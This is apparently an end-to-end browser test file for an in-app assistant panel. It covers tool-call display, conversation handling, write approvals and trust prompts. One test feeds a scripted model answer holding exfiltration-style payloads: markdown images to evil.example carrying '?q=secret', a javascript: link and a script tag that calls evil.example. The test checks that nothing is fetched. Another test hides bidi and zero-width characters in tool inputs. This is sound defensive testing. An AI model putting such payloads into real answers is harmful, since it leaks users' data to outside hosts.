/**
 * The assistant beside a page.
 *
 * @module-tag long
 */

import type { Page } from 'playwright-core'
import { expect, it } from 'vitest'
import { languageServer, type Script } from '../support/language-server.ts'
import { FIXTURE } from '../support/mcp-fixture.ts'
import { TEAM } from './corpus.ts'
import { button, firstOf, inBrowser, lasting, type Parts, quiet, visitCorpus } from './in-browser.ts'
import { LAB } from './packages-corpus.ts'
import { type Corpus, named, takePicture } from './support.ts'

const TIDES = '/packages/lab/harbour/tides'
const QUESTION = 'What happens after a timeout?'

const panel = (page: Page) => page.getByRole('region', { name: 'Assistant' })
const log = (page: Page) => page.getByRole('log', { name: 'Conversation' })
const rows = (page: Page) => log(page).locator('li button[aria-expanded]')
const chip = (page: Page) => page.getByRole('button', { name: /^The assistant uses the context of/ })

async function openAssistant(page: Page, address: string): Promise<void> {
  await page.goto(address)
  const button = page.getByRole('button', { name: 'Assistant', exact: true }).first()
  await button.waitFor()
  if ((await button.getAttribute('aria-pressed')) !== 'true') await button.click()
  await panel(page).waitFor()
}

/** A page of a corpus with the assistant open; with a question, when its answer is whole. */
async function talk(corpus: Corpus, path: string, question?: string) {
  const seen = lasting(quiet(await visitCorpus(corpus)))
  const { page, served } = seen
  await openAssistant(page, `${served.url}${path}`)
  if (question !== undefined) {
    await ask(page, question)
    await answered(page)
  }
  return { page, served }
}

async function ask(page: Page, question: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Ask about this place' }).fill(question)
  await page.keyboard.press('Enter')
}

/** The answer is whole. */
async function answered(page: Page, count = 1): Promise<void> {
  await log(page)
    .getByRole('button', { name: 'Answer again' })
    .nth(count - 1)
    .waitFor()
  await page.getByRole('button', { name: 'Ask', exact: true }).waitFor()
}

interface ScriptedOptions extends Parts {
  readonly path?: string
  readonly corpus?: Partial<Corpus>
}

/** A page with the assistant open, and its model asked; the answer may not be there yet. */
async function scripted(script: Script, question?: string, options: ScriptedOptions = {}) {
  const { path = '/browse/handbook', corpus, ...parts } = options
  const model = lasting(await languageServer('chat', script))
  const seen = lasting(quiet(await visitCorpus({ ...TEAM, ...corpus, model: model.url }, parts)))
  const { page, served } = seen
  await openAssistant(page, `${served.url}${path}`)
  if (question !== undefined) await ask(page, question)
  return { page, served, seen, model }
}

const call = (tool: string, input: object) => ({ calls: [{ tool, input }] })
const hang = (...texts: readonly string[]) => ({ stream: { pieces: texts.map(piece), end: 'hang' as const } })
const DESCRIBE = call('set_path_context', { path: 'handbook/decisions', text: 'What was decided.' })

inBrowser(named('The assistant, with the model that is built in'), () => {
  it('stands on the page of a package, says how much context that is, and looks things up', async () => {
    const { page } = await talk(LAB, TIDES)
    await expect
      .poll(() => chip(page).textContent())
      .toMatch(/uses the context of harbour\/tides\s*· [1-9]\d* parts, [\d,]+ tokens/)
    await panel(page).getByRole('button', { name: 'What is harbour/tides?' }).waitFor()
    await takePicture(page, 'assistant-package')
    await ask(page, 'How many gauges are there in the harbour?')
    await answered(page)
    expect(await log(page).textContent()).toContain('Water levels at the seven gauges of the harbour')
    expect(await rows(page).count()).toBeGreaterThan(0)
    await takePicture(page, 'assistant-package-answered')
  })

  it('shows each call as a row that is closed, and opens by keyboard to all that went in and came out', async () => {
    const { page } = await talk(TEAM, '/browse/handbook/api', QUESTION)
    const first = rows(page).first()
    expect(await first.textContent()).toContain(`Search${QUESTION}`)
    expect(await page.getByText('Tool Use').count()).toBe(0)
    expect(await rows(page).evaluateAll((all) => all.map((row) => row.getAttribute('aria-expanded')))).not.toContain(
      'true',
    )
    await first.getByRole('img', { name: 'Done' }).waitFor()
    await first.focus()
    await page.keyboard.press('Enter')
    const input = log(page).getByRole('region', { name: 'Input' })
    expect(JSON.parse((await input.textContent()) ?? '')).toEqual({ query: QUESTION })
    const result = await log(page).getByRole('region', { name: 'Result' }).textContent()
    expect(result).toMatch(/^<sources>[\s\S]*<hit [\s\S]*<\/hit>/)
    await takePicture(page, 'assistant-row-open')
    await page.keyboard.press('Space')
    await input.waitFor({ state: 'detached' })
  })

  it('leads from what an answer cites to the place', async () => {
    const { page } = await talk(TEAM, '/', QUESTION)
    // The passage stands once, and under it its document, its section and its lines, as one link.
    const source = log(page)
      .getByRole('link', { name: /Install/ })
      .first()
    await expect
      .poll(() => source.textContent())
      .toMatch(/^\d+Install › After a timeout, line \d+handbook\/guides\/install\.md$/)
    expect((await log(page).locator('.prose').allTextContents()).join('')).not.toContain('ambit://')
    await source.click()
    await page.waitForURL(/\/browse\/handbook\/guides\/install\.md\?lines=\d+(-\d+)?&view=preview$/)
    await page.locator('main [data-hit]').first().waitFor()
    expect(await rows(page).count()).toBeGreaterThan(0)
  })

  it('keeps the conversation when the page is loaded anew, and begins another', async () => {
    const { page } = await talk(TEAM, '/browse/handbook', QUESTION)
    const said = await log(page).textContent()
    await page.reload()
    await answered(page)
    expect(await log(page).textContent()).toBe(said)
    await panel(page).getByRole('button', { name: 'New conversation' }).click()
    await panel(page).getByText('Ask about your files.').waitFor()
    await panel(page).getByRole('button', { name: 'Conversations' }).click()
    await button(panel(page), new RegExp(`^${QUESTION.replace('?', '\\?')}.*1 question`)).click()
    await answered(page)
    expect(await log(page).textContent()).toBe(said)
  })

  it('renames, exports and deletes conversations', async () => {
    const { page, served } = await talk(TEAM, '/', QUESTION)
    await panel(page).getByRole('button', { name: 'Conversations' }).click()
    const act = async (title: string, item: string) => {
      await page.getByRole('button', { name: `Actions for ${title}` }).click()
      await page.getByRole('menuitem', { name: item }).click()
    }
    await act(QUESTION, 'Rename…')
    await page.getByLabel('Title').fill('Timeouts')
    await takePicture(page, 'assistant-rename')
    await page.getByRole('button', { name: 'Rename', exact: true }).click()
    await button(panel(page), /^Timeouts/).waitFor()
    await takePicture(page, 'assistant-conversations')
    const [download] = await Promise.all([page.waitForEvent('download'), act('Timeouts', 'Export as Markdown')])
    expect(download.suggestedFilename()).toBe('Timeouts.md')
    const text = await (await import('node:fs/promises')).readFile(await download.path(), 'utf8')
    expect(text).toMatch(/^# Timeouts\n\n## You\n\nWhat happens/)
    await act('Timeouts', 'Delete…')
    await page.getByRole('button', { name: 'Delete', exact: true }).click()
    await panel(page).getByText('There are no conversations yet').waitFor()
    expect((await (await served.engine.conversations()).list({ limit: 5 })).conversations).toEqual([])
  })

  it('shows the context in the inspector, and what the model was sent', async () => {
    const { page } = await talk(TEAM, '/browse/handbook', QUESTION)
    await chip(page).click()
    await page.getByRole('menuitem', { name: 'See what was sent to the model' }).click()
    const prompt = page.getByRole('region', { name: 'Prompt' })
    await firstOf(prompt.getByText('What a page', { exact: false }).or(prompt.getByText('The manual of the relay')))
    expect(await prompt.textContent()).toMatch(/listing: api\/, decisions\//)
    await takePicture(page, 'assistant-prompt')
    await page.keyboard.press('Escape')
    await chip(page).click()
    await page.getByRole('menuitem', { name: 'See the context of this place' }).click()
    await page.waitForURL('**/context?place=ambit*')
  })

  it('is loaded when it is opened, and not before', async () => {
    const { page, served } = lasting(await visitCorpus(TEAM))
    const loaded: string[] = []
    page.on('request', (request) => loaded.push(new URL(request.url()).pathname))
    await page.goto(`${served.url}/`)
    await page.getByRole('heading', { name: 'Needs attention' }).waitFor()
    await page.waitForLoadState('networkidle')
    expect(loaded.filter((path) => /Assistant|\/api\/chat/.test(path))).toEqual([])
    await page.keyboard.press('g')
    await page.keyboard.press('a')
    await panel(page).waitFor()
    expect(loaded.some((path) => path.includes('Assistant'))).toBe(true)
  })
})

inBrowser(named('The assistant, with a model that is scripted'), () => {
  it('moves the view of the person, and stands there then', async () => {
    const { page } = await scripted(
      [call('navigate', { place: 'ambit://handbook/api' }), { text: 'Here it is.' }],
      'Lead me to the API.',
    )
    await page.waitForURL('**/browse/handbook/api')
    await answered(page)
    await expect.poll(() => chip(page).textContent()).toContain('uses the context of api')
    expect(await log(page).textContent()).toContain('Here it is.')
  })

  it('shows calls that are done side by side each as a row, with what became of it', async () => {
    const { page } = await scripted(
      [
        {
          calls: [
            { tool: 'search', input: { query: 'timeout' } },
            { tool: 'read', input: { path: 'handbook/none.md' } },
            { tool: 'strange_tool', input: {} },
          ],
        },
        { text: 'One of three.' },
      ],
      'Look.',
    )
    await answered(page)
    const marks = await rows(page)
      .getByRole('img')
      .evaluateAll((all) => all.map((one) => one.getAttribute('aria-label')))
    expect(marks).toEqual(['Done', 'Failed', 'Failed'])
    await rows(page).nth(1).click()
    expect(await log(page).getByRole('region', { name: 'What went wrong' }).textContent()).toContain('not-found')
    await takePicture(page, 'assistant-rows')
  })

  it('says that it works, also between two steps', async () => {
    const { page } = await scripted([call('search', { query: 'x' }), hang()], 'What?')
    await rows(page).getByRole('img', { name: 'Done' }).waitFor()
    await log(page).getByRole('status').getByText('Working…').waitFor()
  })

  it('stops an answer, and the model is asked no more', async () => {
    const { page, model } = await scripted([hang('Half an answer'), { text: 'Whole.' }], 'What?')
    await log(page).getByText('Half an answer').waitFor()
    await page.getByRole('button', { name: 'Stop the answer' }).click()
    await log(page).getByText('You stopped the answer.').waitFor()
    await expect.poll(() => model.closed).toBe(1)
    await ask(page, 'And now?')
    await log(page).getByText('Whole.').waitFor()
  })

  it('says what went wrong and what to do, also when loaded anew, and tries again', async () => {
    const { page } = await scripted([{ fault: { status: 401, body: '{}' } }, { text: 'Now it works.' }], 'What?')
    const alert = log(page).getByRole('alert')
    await alert.waitFor()
    expect(await alert.textContent()).toMatch(/key/i)
    await takePicture(page, 'assistant-error')
    await page.reload()
    await alert.waitFor()
    await alert.getByRole('button', { name: 'Try again' }).click()
    await log(page).getByText('Now it works.').waitFor()
    expect(await log(page).getByRole('article', { name: 'You asked' }).count()).toBe(1)
  })

  it('edits a question and asks it again', async () => {
    const { page } = await scripted([{ text: 'First.' }, { text: 'Second.' }, { text: 'Third.' }], 'One?')
    await answered(page)
    await ask(page, 'Two?')
    await answered(page, 2)
    await log(page).getByRole('article', { name: 'You asked' }).first().hover()
    await log(page).getByRole('button', { name: 'Edit the question' }).first().click()
    await page.getByRole('textbox', { name: 'The question' }).fill('Other?')
    await page.getByRole('button', { name: 'Ask again' }).click()
    await log(page).getByText('Third.').waitFor()
    expect(await log(page).getByRole('article', { name: 'You asked' }).allTextContents()).toEqual(['Other?'])
    await log(page).getByRole('button', { name: 'Copy the answer' }).waitFor()
  })

  it('asks before it writes, and does what the person says', async () => {
    const { page, served } = await scripted([DESCRIBE, { text: 'It is written.' }], 'Describe the decisions.', {
      allowWrite: true,
    })
    const asking = log(page).getByRole('group', { name: 'May the assistant do this?' })
    await asking.waitFor()
    expect(await asking.textContent()).toContain('What was decided.')
    await takePicture(page, 'assistant-approval')
    const said = async () => (await (await served.engine.contexts()).list()).map(({ context }) => context)
    expect(await said()).not.toContain('What was decided.')
    await asking.getByRole('button', { name: 'Allow once' }).click()
    await log(page).getByText('It is written.').waitFor()
    expect(await said()).toContain('What was decided.')
  })

  it('asks whom to trust, once', async () => {
    const files = { ...TEAM.files, 'handbook/AGENTS.md': 'Be brief.\n' }
    const { page, served } = await scripted([{ text: 'Brief.' }], 'How?', { corpus: { files } })
    const asking = log(page).getByRole('group', { name: /Follow these files/ })
    await asking.waitFor()
    expect(await asking.textContent()).toContain('/AGENTS.md (bucket)')
    await takePicture(page, 'assistant-trust')
    await asking.getByRole('button', { name: 'Always' }).click()
    await answered(page)
    await ask(page, 'And now?')
    await answered(page, 2)
    expect(served.engine.config.trusted).toEqual(['ambit://handbook'])
  })

  it('asks what a tool server asks, in a form', async () => {
    const script = [call('find_tools', { query: 'asks' }), call('fix__asks', {}), { text: 'So.' }]
    const corpus = { mcpServers: { fix: FIXTURE } }
    const { page, model } = await scripted(script, 'Ask me.', { path: '/', corpus })
    const form = log(page).getByRole('form', { name: 'The MCP server fix asks' })
    await form.getByLabel('Size').fill('3')
    await form.getByLabel('colour (optional)').selectOption('red')
    await takePicture(page, 'assistant-question')
    await form.getByRole('button', { name: 'Send' }).click()
    await answered(page)
    expect(await form.textContent()).toContain('You answered.')
    expect(JSON.stringify(model.asked.at(-1)?.body)).toMatch(/accept.*size.*3.*colour.*red/)
  })

  it('asks with what is not seen written out, also in the name of an input', async () => {
    const { page } = await scripted(
      [call('set_path_context', { path: 'handbook', 'te\u202ext': 'x\u200by' }), { text: 'No.' }],
      'Describe it.',
      { allowWrite: true },
    )
    const asking = log(page).getByRole('group', { name: 'May the assistant do this?' })
    await asking.waitFor()
    expect(await asking.textContent()).not.toMatch(/[\u202e\u200b]/)
    await asking.getByRole('button', { name: 'Refuse' }).click()
    await log(page).getByText('No.').waitFor()
  })

  it('stops while the person is asked, and nothing is written', async () => {
    const { page, served } = await scripted([DESCRIBE, { text: 'Never.' }], 'Describe the decisions.', {
      allowWrite: true,
    })
    await log(page).getByRole('group', { name: 'May the assistant do this?' }).waitFor()
    await page.getByRole('button', { name: 'Stop the answer' }).click()
    await log(page).getByText('You stopped the answer.').waitFor()
    await rows(page).getByRole('img', { name: 'Refused' }).waitFor()
    await page.getByRole('button', { name: 'Ask', exact: true }).waitFor()
    const said = (await (await served.engine.contexts()).list()).map(({ context }) => context)
    expect(said).not.toContain('What was decided.')
  })

  it('asks nothing any more that a server asked which is gone', async () => {
    const { page, served } = await scripted([{ text: 'Other.' }], undefined, { allowWrite: true })
    // As a process leaves it that is killed while it waits for the person.
    const conversations = await served.engine.conversations()
    const about = { place: 'ambit://handbook', model: 'openai-compatible/m' }
    const question = 'Describe the decisions.'
    await conversations.begin(question, { id: 'talk-0123456789abcdef', ...about })
    const waiting = {
      type: 'dynamic-tool',
      toolCallId: 'c1',
      toolName: 'set_path_context',
      state: 'approval-requested',
      input: { path: 'handbook/decisions', text: 'What was decided.' },
      approval: { id: 'a1' },
    }
    await conversations.put('talk-0123456789abcdef', 0, {
      id: 'question-01',
      question,
      ...about,
      askedAt: new Date().toISOString(),
      end: null,
      shown: { parts: [{ type: 'step-start' }, waiting], facts: about },
      messages: [{ role: 'user', text: question }],
      isWhole: false,
      state: null,
    })
    await page.reload()
    await panel(page).getByRole('button', { name: 'Conversations' }).click()
    await button(panel(page), /^Describe the decisions/).click()
    await log(page).getByText('The answer was cut off.').waitFor()
    await rows(page).getByRole('img', { name: 'Cut off' }).waitFor()
    expect(await log(page).getByRole('group', { name: 'May the assistant do this?' }).count()).toBe(0)
    await ask(page, 'Something else?')
    await log(page).getByText('Other.').waitFor()
  })

  it('goes on in two tabs: one that comes later joins the answer, and both have the same in the end', async () => {
    const { page, served, seen } = await scripted([hang('A long ', 'answer'), { text: 'After it.' }], 'What?')
    await log(page).getByText('A long answer').waitFor()
    const other = await seen.context.newPage()
    await openAssistant(other, served.url)
    await panel(other).getByRole('button', { name: 'Conversations' }).click()
    await button(panel(other), /^What\?/).click()
    await log(other).getByText('A long answer').waitFor()
    await other.getByRole('button', { name: 'Stop the answer' }).click()
    for (const each of [page, other]) await log(each).getByText('You stopped the answer.').waitFor()
    await ask(other, 'And then?')
    await log(other).getByText('After it.').waitFor()
    await page.evaluate(() => dispatchEvent(new Event('focus')))
    await log(page).getByText('After it.').waitFor()
    const articles = (each: Page) => log(each).getByRole('article').allTextContents()
    expect(await articles(page)).toEqual(await articles(other))
  })

  it('goes on when its page is closed, and is there when one comes back', async () => {
    const { page } = await scripted([hang('Still here')], 'What?')
    await log(page).getByText('Still here').waitFor()
    await page.reload()
    await log(page).getByText('Still here').waitFor()
    await page.getByRole('button', { name: 'Stop the answer' }).waitFor()
  })

  it('fetches nothing that an answer names: no image, no link, no HTML', async () => {
    const { page, served } = await scripted([
      {
        text: [
          '![p](https://evil.example/p.png?q=secret) <img src="https://evil.example/q.png"> ',
          '[click](https://evil.example/c) [run](javascript:alert(1)) <script>fetch("https://evil.example")</script> ',
          '[data](data:text/html,x) `<b>` ![q](//evil.example/r.png)\n\n> quoted\n\n| a | b |\n| - | - |\n| 1 | 2 |\n',
        ],
      },
    ])
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await ask(page, 'Show me.')
    await answered(page)
    await log(page).getByText('image from').first().waitFor()
    expect(asked.filter((url) => !url.startsWith(served.url))).toEqual([])
    const links = await log(page)
      .locator('.prose a')
      .evaluateAll((all) => all.map((one) => one.getAttribute('href')))
    // Addresses that stand there as text are links, too, which show where they lead.
    expect(links).toEqual(['https://evil.example/c', 'https://evil.example'])
    expect(await log(page).locator('img, script, iframe').count()).toBe(0)
    await takePicture(page, 'assistant-hostile')
  })

  it('takes another model, when the person chooses it', async () => {
    const { page } = await scripted([{ text: 'Scripted.' }])
    await page.getByRole('combobox', { name: 'Model' }).selectOption('local/extractive')
    await ask(page, QUESTION)
    await answered(page)
    expect(await log(page).textContent()).toContain('local/extractive')
  })
})

/** What a service sends first of a text. */
function piece(content: string): string {
  const choices = [{ index: 0, delta: { content }, finish_reason: null }]
  return `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices })}\n\n`
}
